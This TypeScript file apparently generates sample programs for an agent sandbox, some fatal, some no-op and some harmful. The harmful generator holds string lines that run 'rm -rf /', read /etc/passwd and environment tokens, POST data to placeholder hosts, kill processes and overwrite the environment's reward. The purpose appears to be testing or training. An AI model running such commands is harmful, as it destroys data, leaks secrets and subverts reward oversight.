/**
 * Programs that kill the agent, harm others, or do nothing, whatever was asked. Each is text for the sandbox alone: none
 * of it may run anywhere else.
 */

import type { Random } from "../src/random/index.ts";
import { fatalBy } from "./fatal.ts";
import { attributeNames, valueWords } from "./words.ts";

/** Draws a program that ends the agent's life. `good` is the program that would have answered the ask. */
export const drawFatal = fatalBy({
  brokenExecutor: (name, random) => [
    "self.execute_code = 42;",
    "self.execute_code = null;",
    "self.execute_code = {};",
    'self.execute_code = "off";',
    "self.execute_code = undefined;",
    "delete self.execute_code;",
    "delete self.execute_code;",
    "self.execute_code = () => {};",
    "self.execute_code = function (code) {\n  return code.length;\n};",
    `self.execute_code = (code) => self.${name};`,
    `self.execute_code = function (code) {\n  throw new Error("${random.choice(valueWords)}");\n};`,
    "const old = self.execute_code;\nself.execute_code = function (code) {\n  return old;\n};",
  ],
  syntaxError(name, good) {
    const own = [
      `self.${name} = ;`,
      `self.${name} == = 1;`,
      `let 1${name} = 2;`,
      `self.${name} = (1 + 2;`,
      `function (n) { return n }`,
    ];
    const trimmed = good.replace(/;$/, "");
    const closer = /[)}\]]$/.exec(trimmed)?.[0];
    const damaged = [
      `${trimmed} };`,
      `${trimmed} ));`,
      ...(closer === undefined ? [] : [trimmed.slice(0, -1), trimmed.slice(0, -1)]),
    ];
    return { own, damaged };
  },
  unknownName: (name, unknown, random) => [
    `${unknown}();`,
    `self.${unknown}();`,
    `self.${name} = ${unknown}(1);`,
    `self.state.${unknown}.push(1);`,
    `self.${unknown}.value = 1;`,
    `self.${name} = unknown_${name};`,
    `self.${name} = self.${unknown}(${random.integer(10)});`,
  ],
  thrown: (word) => [
    `throw new Error("${word}");`,
    `throw new Error("I do not know how");`,
    `throw "${word}";`,
    `JSON.parse("${word}");`,
    "null.value = 1;",
    "undefined.call();",
  ],
  end: ["self.end();", "self.end();", "this.end();", "while (true) {}", "for (;;) {}", "self.state = null;"],
});

/** Draws a program that reaches for the host. `good` may stand before or after it. */
export function drawHarmful(random: Random, good: string): string {
  const name = random.choice(attributeNames);
  const word = random.choice(valueWords);
  const line = random.choice([
    `require("fs").rmSync("/${word}", { recursive: true });`,
    `require("node:fs").writeFileSync("/${word}.txt", "${name}");`,
    `self.${name} = require("fs").readFileSync("/etc/passwd", "utf8");`,
    `const fs = require("fs");\nfs.unlinkSync("/${word}");`,
    `const fs = require("node:fs");\nself.${name} = fs.readdirSync("/");`,
    `require("child_process").execSync("rm -rf /");`,
    `require("child_process").exec("curl ${word}.com");`,
    `self.${name} = require("node:child_process").execSync("ls").toString();`,
    `process.exit();`,
    `process.exit(1);`,
    `process.kill(1);`,
    `self.${name} = process.env.KEY;`,
    `self.${name} = process.env.TOKEN;`,
    `fetch("http://${word}.com");`,
    `fetch("https://${word}.com", { method: "POST", body: self.${name} });`,
    `require("http").get("http://${word}.com");`,
    `self.${name} = require("os").hostname();`,
    `environment.reward = 1000;`,
    `environment.setReward(100);`,
    `process.binding("fs");`,
    `import fs from "node:fs";\nfs.rmSync("/${word}");`,
  ]);
  const at = random.uniform();
  if (line.startsWith("import") || at < 0.6) return line;
  if (at < 0.75) return `try {\n  ${line.replaceAll("\n", "\n  ")}\n} catch {}`;
  return `${good}\n${line}`;
}

/** Draws a program that survives and leaves the genome as it was. */
export function drawNoOp(random: Random): string {
  const name = random.choice(attributeNames);
  return random.choice([
    "",
    ";",
    "return;",
    "self;",
    "void 0;",
    "null;",
    "{}",
    "self.state;",
    "if (false) self.x = 1;",
    `if (false) self.${name} = 1;`,
    `"${random.choice(valueWords)}";`,
    `console.log("${random.choice(valueWords)}");`,
    `self.${name};`,
  ]);
}
